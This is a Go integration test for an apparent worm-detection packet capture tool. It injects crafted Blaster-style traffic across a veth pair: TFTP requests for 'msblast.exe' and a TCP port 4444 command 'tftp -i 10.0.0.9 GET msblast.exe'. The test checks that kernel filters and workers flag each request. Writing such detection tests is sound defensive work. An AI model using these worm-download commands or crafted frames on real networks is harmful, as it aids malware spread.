package wire

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"testing"

	"github.com/gopacket/gopacket/afpacket"
	"golang.org/x/sys/unix"

	"wormsink/internal/evidencetest"
)

// vethNetns makes two namespaces joined by a veth pair (vc in cli, vs in
// srv), both up, and removes them when the test ends.
func vethNetns(t *testing.T, id string) (cli, srv string) {
	t.Helper()
	if os.Geteuid() != 0 {
		t.Fatal("live capture test needs root (CI runs as root): network namespaces and AF_PACKET")
	}
	cli, srv = id+"c", id+"s"
	sh(t, "ip", "netns", "add", cli)
	t.Cleanup(func() { exec.Command("ip", "netns", "del", cli).Run() })
	sh(t, "ip", "netns", "add", srv)
	t.Cleanup(func() { exec.Command("ip", "netns", "del", srv).Run() })
	sh(t, "ip", "-n", cli, "link", "add", "vc", "type", "veth", "peer", "name", "vs", "netns", srv)
	sh(t, "ip", "-n", cli, "link", "set", "vc", "up")
	sh(t, "ip", "-n", srv, "link", "set", "vs", "up")
	return cli, srv
}

// rawSender is an AF_PACKET socket that writes whole frames to one link.
type rawSender struct {
	fd int
	to unix.SockaddrLinklayer
}

func newRawSender(t *testing.T, ns, dev string) *rawSender {
	var s *rawSender
	inNetns(t, ns, func() {
		ifi, err := net.InterfaceByName(dev)
		if err != nil {
			t.Fatal(err)
		}
		fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, 0)
		if err != nil {
			t.Fatal(err)
		}
		s = &rawSender{fd: fd, to: unix.SockaddrLinklayer{Ifindex: ifi.Index, Halen: 6}}
	})
	t.Cleanup(func() { unix.Close(s.fd) })
	return s
}

func (s *rawSender) send(t *testing.T, frame []byte) {
	t.Helper()
	if err := unix.Sendto(s.fd, frame, 0, &s.to); err != nil {
		t.Fatalf("send: %v", err)
	}
}

// withSrc4 and withSrc6 set the source address of a frame built by
// ethRaw (after tags tags) around ip4Raw or ip6Raw.
func withSrc4(frame []byte, tags int, src netip.Addr) []byte {
	a := src.As4()
	copy(frame[14+4*tags+12:], a[:])
	return frame
}

func withSrc6(frame []byte, tags int, src netip.Addr) []byte {
	a := src.As16()
	copy(frame[14+4*tags+8:], a[:])
	return frame
}

// frag6Raw is an IPv6 fragment of a UDP datagram.
func frag6Raw(src netip.Addr, id uint32, off int, more bool, piece []byte) []byte {
	fo := uint16(off/8) << 3
	if more {
		fo |= 1
	}
	h := []byte{protoUDP, 0, byte(fo >> 8), byte(fo), 0, 0, 0, 0}
	binary.BigEndian.PutUint32(h[4:], id)
	return withSrc6(ethRaw(nil, 0x86dd, ip6Raw(nil, protoFragment, append(h, piece...))), 0, src)
}

// TestLiveCaptureFanout sends crafted traffic across a veth pair: worm
// requests over IPv4 and IPv6 (with extension headers), 802.1Q and QinQ
// tagged, fragmented over IPv4 and IPv6, and a TCP command, among
// thousands of frames the kernel filter must keep out. Two captures of two
// workers each watch it: one on the receiving side, where the kernel moves
// the outer VLAN tag into packet metadata before any filter runs, and one
// on the sending side, where the tags are still in the frame. Both must
// find every worm request, the kernel filters must pass only the
// candidates, and the fan-out must spread flows over both workers.
func TestLiveCaptureFanout(t *testing.T) {
	cli, srv := vethNetns(t, fmt.Sprintf("ws15f%d", os.Getpid()%10000))
	// A fixed set, so the noise below stays noise whatever the built-in
	// set adds.
	set := mustParse(t, filterSigs)

	// The receiving side really gets the outer tag as metadata: a plain
	// afpacket socket sees TP_STATUS_VLAN_VALID on a tagged frame.
	var probe *afpacket.TPacket
	inNetns(t, srv, func() {
		var err error
		probe, err = afpacket.NewTPacket(afpacket.OptInterface("vs"), afpacket.TPacketVersion3, afpacket.OptPollTimeout(pollTimeout))
		if err != nil {
			t.Fatal(err)
		}
	})
	tx := newRawSender(t, cli, "vc")
	tagged := ethRaw([]uint16{0x8100}, 0x0800, ip4Raw(protoUDP, udpBytes(t, 1, 2, []byte("probe"))))
	tx.send(t, tagged)
	offloaded := false
	for range 50 {
		data, ci, err := probe.ZeroCopyReadPacketData()
		if err != nil {
			continue
		}
		if len(ci.AncillaryData) > 0 && len(data) == len(tagged)-4 {
			_, offloaded = ci.AncillaryData[0].(afpacket.AncillaryVLAN)
			break
		}
	}
	probe.Close()
	if !offloaded {
		t.Fatal("the receiving side did not get the VLAN tag as metadata: the offloaded case is not tested")
	}

	type capt struct {
		name string
		c    *Capture
		rec  *evidencetest.Recorder
	}
	var caps []capt
	for _, side := range []struct{ name, ns, dev string }{{"rx (tag offloaded)", srv, "vs"}, {"tx (tag in frame)", cli, "vc"}} {
		rec := &evidencetest.Recorder{}
		inNetns(t, side.ns, func() {
			c, err := NewCapture(side.dev, CaptureConfig{Sigs: StaticSet{set}, Rec: rec, Workers: 2, RingMB: 4, Promisc: true})
			if err != nil {
				t.Fatal(err)
			}
			caps = append(caps, capt{side.name, c, rec})
		})
	}
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	errs := make(chan error, len(caps))
	for _, c := range caps {
		go func() { errs <- c.c.Serve(ctx) }()
	}
	defer func() {
		cancel()
		for range caps {
			if err := <-errs; !errors.Is(err, ErrCaptureClosed) {
				t.Errorf("Serve: %v, want ErrCaptureClosed", err)
			}
		}
	}()

	// The worm requests, each from its own source address.
	src := func(i int) netip.Addr { return netip.AddrFrom4([4]byte{10, 15, 0, byte(i)}) }
	src6 := func(i int) netip.Addr { return netip.MustParseAddr(fmt.Sprintf("2001:db8:15::%d", i)) }
	req := udpBytes(t, 1025, 69, rrq(1, "msblast.exe", "octet"))
	long := udpBytes(t, 1025, 69, rrq(1, "msblast.exe", "octet", "blksize", "1408", "tsize", "0", "timeout", "5"))
	cmd := tcpRaw(4444, []byte("tftp -i 10.0.0.9 GET msblast.exe\r\n"))
	q, ad := uint16(0x8100), uint16(0x88a8)
	exts := []byte{protoHopByHop, protoRouting, protoDestOpts}
	worms := map[netip.Addr]string{}
	var wormFrames [][]byte
	add := func(who netip.Addr, what string, frames ...[]byte) {
		worms[who] = what
		wormFrames = append(wormFrames, frames...)
	}
	add(src(1), "ipv4", withSrc4(ethRaw(nil, 0x0800, ip4Raw(protoUDP, req)), 0, src(1)))
	add(src(2), "802.1Q", withSrc4(ethRaw([]uint16{q}, 0x0800, ip4Raw(protoUDP, req)), 1, src(2)))
	add(src(3), "QinQ", withSrc4(ethRaw([]uint16{ad, q}, 0x0800, ip4Raw(protoUDP, req)), 2, src(3)))
	add(src6(4), "ipv6 extension headers", withSrc6(ethRaw(nil, 0x86dd, ip6Raw(exts, protoUDP, req)), 0, src6(4)))
	add(src6(5), "802.1Q ipv6 extension headers", withSrc6(ethRaw([]uint16{q}, 0x86dd, ip6Raw(exts, protoUDP, req)), 1, src6(5)))
	add(src6(6), "QinQ ipv6 tcp 4444", withSrc6(ethRaw([]uint16{ad, q}, 0x86dd, ip6Raw(nil, protoTCP, cmd)), 2, src6(6)))
	a7 := src(7).As4()
	add(src(7), "ipv4 fragments",
		frag4(t, net.IP(a7[:]), infected, 0x715, 0, true, long[:16]),
		frag4(t, net.IP(a7[:]), infected, 0x715, 16, true, long[16:32]),
		frag4(t, net.IP(a7[:]), infected, 0x715, 32, false, long[32:]))
	add(src6(8), "ipv6 fragments",
		frag6Raw(src6(8), 0x615, 0, true, long[:16]),
		frag6Raw(src6(8), 0x615, 16, false, long[16:]))

	// Candidates that are not worms (a legitimate TFTP boot from 200
	// hosts, so the fan-out has flows to spread) and noise the kernel
	// filters must drop: web, DNS, tagged and not, IPv4 and IPv6.
	var candidates, noise [][]byte
	boot := udpBytes(t, 2000, 69, rrq(1, "pxelinux.0", "octet"))
	for i := range 200 {
		candidates = append(candidates, withSrc4(ethRaw(nil, 0x0800, ip4Raw(protoUDP, boot)), 0, netip.AddrFrom4([4]byte{10, 16, byte(i / 250), byte(1 + i%250)})))
	}
	for i := range 3000 {
		s4 := netip.AddrFrom4([4]byte{10, 17, byte(i / 250), byte(1 + i%250)})
		s6 := netip.MustParseAddr(fmt.Sprintf("2001:db8:17::%x", i+1))
		var f []byte
		switch i % 6 {
		case 0:
			f = withSrc4(ethRaw(nil, 0x0800, ip4Raw(protoTCP, tcpRaw(443, make([]byte, 600)))), 0, s4)
		case 1:
			f = withSrc6(ethRaw(nil, 0x86dd, ip6Raw(nil, protoTCP, tcpRaw(443, make([]byte, 600)))), 0, s6)
		case 2:
			f = withSrc4(ethRaw(nil, 0x0800, ip4Raw(protoUDP, udpBytes(t, 5353, 53, []byte("dns")))), 0, s4)
		case 3:
			f = withSrc4(ethRaw([]uint16{q}, 0x0800, ip4Raw(protoTCP, tcpRaw(8443, make([]byte, 300)))), 1, s4)
		case 4:
			f = withSrc6(ethRaw([]uint16{ad, q}, 0x86dd, ip6Raw(exts, protoUDP, udpBytes(t, 5353, 53, []byte("dns")))), 2, s6)
		case 5:
			f = withSrc6(ethRaw([]uint16{q}, 0x86dd, ip6Raw([]byte{protoDestOpts}, protoTCP, tcpRaw(443, nil))), 1, s6)
		}
		noise = append(noise, f)
	}

	// Send in rounds of a few candidates among noise; before the next
	// round, wait until the receiving capture read this round's
	// candidates, so no queue between the two namespaces overflows.
	rx := caps[0].c
	sent := 0
	waitRead := func() {
		waitFor(t, fmt.Sprintf("%d candidates read", sent), func() bool { return rx.Stats().Packets >= uint64(sent) })
	}
	for round := 0; round*10 < len(candidates); round++ {
		for i := range 10 {
			tx.send(t, candidates[round*10+i])
			sent++
			for _, f := range noise[(round*10+i)*len(noise)/len(candidates) : (round*10+i+1)*len(noise)/len(candidates)] {
				tx.send(t, f)
			}
		}
		waitRead()
	}
	for _, f := range wormFrames {
		tx.send(t, f)
	}

	for _, c := range caps {
		waitFor(t, c.name+": every worm request", func() bool {
			found := map[netip.Addr]bool{}
			for _, ev := range c.rec.Events() {
				if ev.Sig != "" && worms[ev.Host] != "" {
					found[ev.Host] = true
				}
			}
			return len(found) == len(worms)
		})
		for who, what := range worms {
			n := 0
			for _, ev := range c.rec.Events() {
				if ev.Host == who {
					n++
				}
			}
			// One event per request (the requester side): no duplicates.
			if n != 1 {
				t.Errorf("%s: %s (%s): %d events naming it as host", c.name, what, who, n)
			}
		}
		st := c.c.Stats()
		// Candidates: the boot requests, the worm frames, and the
		// interfaces' own IPv6 neighbour discovery (ICMPv6 passes for the
		// ICMP rule). None of the 3,000 noise frames.
		if st.KernelPackets < uint64(len(candidates)) || st.KernelPackets > uint64(len(candidates)+len(wormFrames)+50) {
			t.Errorf("%s: the kernel filter passed %d frames for %d candidates (+%d worm frames) among %d noise frames",
				c.name, st.KernelPackets, len(candidates), len(wormFrames), len(noise))
		}
		if st.KernelDrops != 0 {
			t.Errorf("%s: %d kernel drops", c.name, st.KernelDrops)
		}
		for i, w := range c.c.workers {
			if w.packets.Load() == 0 {
				t.Errorf("%s: worker %d read nothing: the fan-out did not spread %d flows", c.name, i, len(candidates))
			}
		}
		t.Logf("%s: %+v", c.name, st)
	}
}
